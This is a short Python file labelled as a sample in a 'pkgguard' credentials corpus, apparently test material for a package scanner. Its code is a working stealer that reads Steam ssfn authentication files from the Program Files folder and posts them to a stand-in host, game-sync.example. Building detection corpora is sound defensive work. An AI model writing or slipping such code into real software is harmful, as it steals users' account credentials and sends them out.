# pkgguard corpus 604 (credentials), modelled on [stealer-profile]; inert, never run.
import glob
import os

import requests

steam = os.path.join(os.environ.get("ProgramFiles(x86)", r"C:\Program Files (x86)"), "Steam")
files = {}
for path in glob.glob(os.path.join(steam, "ssfn*")):
    with open(path, "rb") as fh:
        files[os.path.basename(path)] = fh.read()
if files:
    requests.post("https://game-sync.example/s", files=files, timeout=20)
